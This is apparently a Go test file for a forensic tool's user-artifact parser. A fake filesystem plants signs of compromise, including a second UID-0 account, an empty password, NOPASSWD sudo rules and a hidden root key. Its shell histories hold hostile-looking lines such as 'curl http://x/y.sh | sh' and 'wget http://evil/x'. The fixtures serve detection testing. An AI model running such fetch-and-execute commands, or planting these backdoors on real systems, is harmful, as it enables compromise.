package users

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/coldcase-dfir/coldcase/artifacts"
	"github.com/coldcase-dfir/coldcase/internal/testenv"
	"github.com/coldcase-dfir/coldcase/timeline"
)

var (
	t0 = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	// An ed25519 public key and the fingerprint ssh-keygen -lf printed for it
	// (TestFingerprintMatchesSSHKeygen re-derives such values with the tool).
	edKey = "AAAAC3NzaC1lZDI1NTE5AAAAIGq0LW3sWxTjxLAO8Xz5G4x8bZ3i9u+7xRkq1p9QnWvE"
)

func file(s string, mt time.Time) *fstest.MapFile {
	return &fstest.MapFile{Data: []byte(s), Mode: 0o644, ModTime: mt}
}

func guest() fstest.MapFS {
	return fstest.MapFS{
		"etc/passwd": file(`root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
toor:x:0:0::/root:/bin/sh
www-data:x:33:33:www-data:/var/www:/bin/bash
alice:x:1000:1000:Alice:/home/alice:/bin/zsh
bob::1001:1001::/home/bob:/bin/bash
carol:x:1000:1000::/home/carol:/usr/bin/fish
broken:x:notanumber:1::/:/bin/sh
`, t0),
		"etc/shadow": file(`root:$y$j9T$abcdefgh$ABCDEFGHIJKLMNOPQRSTUVWXYZ012345678901234567:20000:0:99999:7:::
daemon:*:19000:0:99999:7:::
alice:!$6$salt$hash:20100:0:99999:7::20500:
bob::20000::::::
ghostshadow:$1$ab$cd:20000::::::
`, t0),
		"etc/group":   file("root:x:0:\nsudo:x:27:alice\nalice:x:1000:\nwheel:x:10:carol\n", t0),
		"etc/gshadow": file("sudo:*:alice:alice,bob\n", t0),
		"etc/sudoers": file(`# comment
Defaults	env_reset
root	ALL=(ALL:ALL) ALL
%sudo	ALL=(ALL:ALL) ALL
#includedir /etc/sudoers.d
#include extra
`, t0),
		"etc/sudoers.d/90-bob":   file("bob ALL=(root) NOPASSWD: /usr/bin/apt, \\\n   /usr/bin/systemctl\n", t0),
		"etc/sudoers.d/skip.txt": file("eve ALL=(ALL) NOPASSWD: ALL\n", t0),
		"etc/sudoers.d/old~":     file("eve ALL=(ALL) NOPASSWD: ALL\n", t0),
		"etc/extra":              file("%wheel ALL=(ALL) NOPASSWD: ALL\n#include /etc/extra\nUser_Alias OPS = daemon, www-data\nOPS ALL = NOPASSWD: /usr/bin/id\n", t0),
		"root/.bash_history":     file("ls\n\nid\n", t0.Add(-time.Hour)),
		"home/alice/.ssh/authorized_keys": file(`# keys
ssh-ed25519 `+edKey+` alice@laptop
command="/usr/bin/backup --x=\"a b\"",from="10.0.0.0/8,192.168.1.1",no-pty ssh-ed25519 `+edKey+` backup key
ssh-rsa bm90IGEga2V5 mismatch
garbage
`, t0.Add(-48*time.Hour)),
		"home/alice/.ssh/known_hosts":               file("|1|abc=|def= ssh-ed25519 "+edKey+"\nexample.org,10.1.1.1 ssh-ed25519 "+edKey+"\n", t0),
		"home/alice/.zsh_history":                   file(": 1700000000:3;make\nplain\n", t0),
		"home/alice/.lesshst":                       file(".less-history-file:\n.search\n\"password\n.shell\n\"rm -rf /tmp/x\n", t0),
		"home/alice/.viminfo":                       file("# File marks:\n'0  1  0  /etc/shadow\n|4,48,1,0,1700000100,\"/etc/shadow\"\n\n# History of marks within files (newest to oldest):\n\n> /etc/shadow\n\t*\t1700000200\t0\n\t\"\t1\t0\n\n# Command Line History (newest to oldest):\n:wq\n|2,0,1700000300,,\"wq\"\n", t0),
		"home/carol/.local/share/fish/fish_history": file("- cmd: curl http://x/y.sh | sh\n  when: 1700000400\n  paths:\n    - /tmp/y\n- cmd: echo a\\nb\n", t0),
		"home/ghost/.bash_history":                  file("#1690000000\nwget http://evil/x\n", t0),
		"var/log/syslog":                            file("x\n", t0.Add(24*time.Hour)),
	}
}

func run(t *testing.T, fsys fstest.MapFS, opts Options) (*Report, []timeline.Event, []artifacts.Warning) {
	t.Helper()
	env := &artifacts.Env{FS: fsys, Zone: time.UTC, ZoneName: "UTC"}
	var c timeline.Collect
	env.Events = &c
	rep, err := Extract(context.Background(), env, opts)
	if err != nil {
		t.Fatal(err)
	}
	return rep, c.Events, env.Warnings()
}

func user(rep *Report, name string) *User {
	for i := range rep.Users {
		if rep.Users[i].Name == name {
			return &rep.Users[i]
		}
	}
	return nil
}

func TestExtractFlags(t *testing.T) {
	rep, _, warns := run(t, guest(), DefaultOptions())
	flags := func(n string) []string {
		u := user(rep, n)
		if u == nil {
			t.Fatalf("no user %s", n)
		}
		return u.Flags
	}
	want := map[string][]string{
		"root":        nil,
		"daemon":      {FlagSudoNoPasswd},
		"toor":        {FlagUID0, FlagDuplicateUID},
		"www-data":    {FlagSystemShell, FlagSudoNoPasswd},
		"alice":       {FlagDuplicateUID, FlagRecentKey},
		"bob":         {FlagEmptyPassword, FlagSudoNoPasswd},
		"carol":       {FlagDuplicateUID, FlagSudoNoPasswd},
		"ghostshadow": {FlagShadowOnly},
		"ghost":       {FlagNoAccount},
	}
	want["root"] = []string{FlagDuplicateUID}
	for n, w := range want {
		if g := flags(n); !slices.Equal(g, w) {
			t.Errorf("%s flags %v, want %v", n, g, w)
		}
	}
	if u := user(rep, "alice"); u.Shadow == nil || !u.Shadow.Locked || u.Shadow.HashType != HashSHA512 || u.Shadow.Expire != "2026-02-16" /* date -u -d @$((20500*86400)) */ ||
		!slices.Equal(u.Groups, []string{"sudo"}) || u.PrimaryGroup != "alice" {
		t.Errorf("alice = %+v %+v", u, u.Shadow)
	}
	if u := user(rep, "root"); u.Shadow.HashType != HashYescrypt || u.Shadow.Params != "j9T" || u.Shadow.Salt != "abcdefgh" {
		t.Errorf("root shadow %+v", u.Shadow)
	}
	if u := user(rep, "bob"); !slices.Equal(u.Groups, []string{"sudo"}) {
		t.Errorf("bob groups from gshadow: %v", u.Groups)
	}
	for n, want := range map[string]bool{"root": true, "alice": true, "bob": true, "carol": true, "daemon": true, "toor": false} {
		if u := user(rep, n); u.Sudo != want {
			t.Errorf("%s sudo %v", n, u.Sudo)
		}
	}
	foundBad := false
	for _, w := range warns {
		if w.Path == "/etc/passwd" && w.Line == 8 {
			foundBad = true
		}
	}
	if !foundBad {
		t.Errorf("no warning for passwd line 8: %v", warns)
	}
}

func TestSudoersIncludes(t *testing.T) {
	rep, _, _ := run(t, guest(), DefaultOptions())
	var files []string
	var specs []string
	for _, r := range rep.Sudoers {
		if !slices.Contains(files, r.File) {
			files = append(files, r.File)
		}
		if r.Kind == "spec" {
			specs = append(specs, r.Who)
		}
	}
	if !slices.Equal(files, []string{"/etc/sudoers", "/etc/sudoers.d/90-bob", "/etc/extra"}) {
		t.Errorf("files read %v (skip.txt and old~ must be skipped, the self-include read once)", files)
	}
	if !slices.Equal(specs, []string{"root", "%sudo", "bob", "%wheel", "OPS"}) {
		t.Errorf("specs %v", specs)
	}
	for _, r := range rep.Sudoers {
		if r.Who == "bob" && (!r.NoPasswd || r.RunAs != "root" || r.Line != 1 || !strings.Contains(r.Commands, "/usr/bin/systemctl")) {
			t.Errorf("bob rule %+v", r)
		}
	}
}

func TestAuthorizedKeys(t *testing.T) {
	rep, evs, _ := run(t, guest(), DefaultOptions())
	ks := rep.AuthorizedKeys
	if len(ks) != 3 {
		t.Fatalf("%d keys: %+v", len(ks), ks)
	}
	if ks[0].KeyType != "ssh-ed25519" || ks[0].Comment != "alice@laptop" || ks[0].Line != 2 || ks[0].Error != "" || ks[0].User != "alice" {
		t.Errorf("#0 %+v", ks[0])
	}
	if ks[1].Command != `/usr/bin/backup --x="a b"` || ks[1].From != "10.0.0.0/8,192.168.1.1" || len(ks[1].Options) != 3 || ks[1].Comment != "backup key" || ks[1].Fingerprint != ks[0].Fingerprint {
		t.Errorf("#1 %+v", ks[1])
	}
	if ks[2].Error == "" {
		t.Errorf("#2 blob mismatch not reported: %+v", ks[2])
	}
	if len(rep.KnownHosts) != 2 || !rep.KnownHosts[0].Hashed || rep.KnownHosts[1].Hashed || rep.KnownHosts[1].Hosts[1] != "10.1.1.1" {
		t.Errorf("known hosts %+v", rep.KnownHosts)
	}
	n := 0
	for _, e := range evs {
		if e.TimestampDesc == DescKeyFileModified {
			n++
			if !e.Time.Equal(t0.Add(-48*time.Hour)) || e.User != "alice" || e.Evidence.Path != "/home/alice/.ssh/authorized_keys" {
				t.Errorf("key event %+v", e)
			}
		}
	}
	if n != 1 {
		t.Errorf("%d key file events", n)
	}
	// Reference is the newest log (t0+24h); with a 1 h window the key file
	// (t0-48h) is no longer recent.
	rep, _, _ = run(t, guest(), Options{RecentWindow: time.Hour})
	if slices.Contains(user(rep, "alice").Flags, FlagRecentKey) || !rep.Reference.Equal(t0.Add(24*time.Hour)) {
		t.Errorf("recent with 1h window: %v ref %v", user(rep, "alice").Flags, rep.Reference)
	}
}

func TestHistories(t *testing.T) {
	rep, evs, _ := run(t, guest(), DefaultOptions())
	byFile := map[string]History{}
	for _, h := range rep.Histories {
		byFile[h.File] = h
	}
	// Untimed bash history: bounded by the file's mtime.
	rh := byFile["/root/.bash_history"]
	if len(rh.Entries) != 2 || rh.Entries[1].Command != "id" || rh.Entries[1].Line != 3 ||
		rh.Entries[0].TimeKind != TimeBefore || !rh.Entries[0].Time.Equal(t0.Add(-time.Hour)) {
		t.Errorf("root history %+v", rh)
	}
	// zsh: a plain line after a stamped one is bounded by the file's mtime.
	ah := byFile["/home/alice/.zsh_history"]
	if len(ah.Entries) != 2 || *ah.Entries[0].Elapsed != 3 || ah.Entries[1].TimeKind != TimeBefore || !ah.Entries[1].Time.Equal(t0) {
		t.Errorf("alice zsh %+v", ah)
	}
	ch := byFile["/home/carol/.local/share/fish/fish_history"]
	if len(ch.Entries) != 2 || ch.Entries[0].Time.Unix() != 1700000400 || ch.Entries[0].Paths[0] != "/tmp/y" || ch.Entries[1].Command != "echo a\nb" {
		t.Errorf("fish %+v", ch)
	}
	if gh := byFile["/home/ghost/.bash_history"]; len(gh.Entries) != 1 || gh.User != "ghost" {
		t.Errorf("ghost history %+v", gh)
	}
	before := 0
	for _, e := range evs {
		if e.Source == SourceHistory && e.TimestampDesc == DescShellBefore {
			before++
			if !strings.Contains(e.Message, "at or before") || e.Attrs["time_kind"] != TimeBefore {
				t.Errorf("untimed event %+v", e)
			}
		}
		if e.Source == SourceHistory && e.Attrs["command"] == "id" && e.Evidence.Line != 3 {
			t.Errorf("evidence line %+v", e.Evidence)
		}
	}
	if before != 4 { // ls, id, plain, echo a\nb
		t.Errorf("%d untimed events", before)
	}
	if len(rep.Less) != 1 || len(rep.Less[0].Entries) != 2 || rep.Less[0].Entries[1].Value != "rm -rf /tmp/x" {
		t.Errorf("less %+v", rep.Less)
	}
	v := rep.Viminfo[0].Entries
	if len(v) != 3 || v[0].Kind != "mark" || v[0].Time.Unix() != 1700000100 || v[1].Kind != "file" || v[1].Value != "/etc/shadow" ||
		v[1].Time.Unix() != 1700000200 || v[2].Kind != "command" || v[2].Value != "wq" || v[2].Time.Unix() != 1700000300 {
		t.Errorf("viminfo %+v", v)
	}
}

func TestPasswordChangedEvent(t *testing.T) {
	_, evs, _ := run(t, guest(), DefaultOptions())
	for _, e := range evs {
		if e.TimestampDesc == DescPasswordChanged && e.User == "alice" {
			if e.Time.Format("2006-01-02") != "2025-01-12" /* date -u -d @$((20100*86400)) */ || e.Evidence.Line != 3 || e.Evidence.Path != "/etc/shadow" {
				t.Errorf("event %+v", e)
			}
			return
		}
	}
	t.Error("no password event for alice")
}

func TestFingerprintMatchesSSHKeygen(t *testing.T) {
	testenv.NeedTool(t, "ssh-keygen")
	dir := t.TempDir()
	var ak strings.Builder
	var want []string
	for i, typ := range []string{"ed25519", "rsa", "ecdsa"} {
		k := filepath.Join(dir, "k"+typ)
		args := []string{"-q", "-t", typ, "-N", "", "-C", "c" + typ, "-f", k}
		if typ == "rsa" {
			args = append(args, "-b", "2048") // smaller is quicker to generate; the fingerprint rule is the same
		}
		testenv.Run(t, "ssh-keygen", args...)
		pub, err := os.ReadFile(k + ".pub")
		if err != nil {
			t.Fatal(err)
		}
		if i == 1 {
			ak.WriteString(`command="echo hi",no-pty `)
		}
		ak.Write(pub)
		one := testenv.Output(t, "ssh-keygen", "-lf", k+".pub")
		want = append(want, strings.Fields(string(one))[1])
	}
	p := filepath.Join(dir, "authorized_keys")
	os.WriteFile(p, []byte(ak.String()), 0o600)
	ks, errs := ParseAuthorizedKeys(p, []byte(ak.String()))
	if len(errs) != 0 || len(ks) != 3 {
		t.Fatalf("%d keys, %v", len(ks), errs)
	}
	// ssh-keygen -lf on the whole file (options included) must agree too.
	all := strings.Split(strings.TrimSpace(string(testenv.Output(t, "ssh-keygen", "-lf", p))), "\n")
	for i, k := range ks {
		if k.Fingerprint != want[i] || strings.Fields(all[i])[1] != want[i] || k.Error != "" {
			t.Errorf("key %d: ours %s, ssh-keygen %s / %s (%s)", i, k.Fingerprint, want[i], all[i], k.Error)
		}
	}
	if _, err := exec.LookPath("ssh-keygen"); err == nil {
		// also the fixture key used above
		kp := filepath.Join(dir, "fixture.pub")
		os.WriteFile(kp, []byte("ssh-ed25519 "+edKey+" x\n"), 0o644)
		out := strings.Fields(string(testenv.Output(t, "ssh-keygen", "-lf", kp)))[1]
		fp, _ := fingerprint("ssh-ed25519", edKey)
		if fp != out {
			t.Errorf("fixture: ours %s, ssh-keygen %s", fp, out)
		}
	}
}

func TestSSHDConfigKeyFiles(t *testing.T) {
	g := guest()
	g["etc/ssh/sshd_config"] = file("Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\nMatch User bob\n  PasswordAuthentication yes\n", t0)
	g["etc/ssh/sshd_config.d/10-x.conf"] = file("PermitRootLogin=yes\n", t0)
	g["etc/ssh/keys/root"] = file("ssh-ed25519 "+edKey+" hidden-root-key\n", t0)
	rep, _, _ := run(t, g, DefaultOptions())
	s := rep.SSHD
	if s == nil || s.Settings["permitrootlogin"] != "yes" || !slices.Equal(s.AuthorizedKeysFile, []string{".ssh/authorized_keys", "/etc/ssh/keys/%u"}) ||
		len(s.Matches) != 1 || !strings.Contains(s.Matches[0], "PasswordAuthentication yes") || len(s.Files) != 2 {
		t.Fatalf("sshd %+v", s)
	}
	var root *AuthorizedKey
	for i, k := range rep.AuthorizedKeys {
		if k.File == "/etc/ssh/keys/root" {
			root = &rep.AuthorizedKeys[i]
		}
		if k.File == "/home/alice/.ssh/authorized_keys2" {
			t.Error("authorized_keys2 read although AuthorizedKeysFile does not name it")
		}
	}
	if root == nil || root.User != "root" || root.Comment != "hidden-root-key" {
		t.Errorf("root key %+v", root)
	}
	if got := KeyFilePaths([]string{"%h/.k", "k2", "/x/%U/%%", "none"}, PasswdEntry{Name: "a", UID: 7, Home: "/home/a"}); !slices.Equal(got, []string{"/home/a/.k", "/home/a/k2", "/x/7/%"}) {
		t.Errorf("expand %v", got)
	}
}
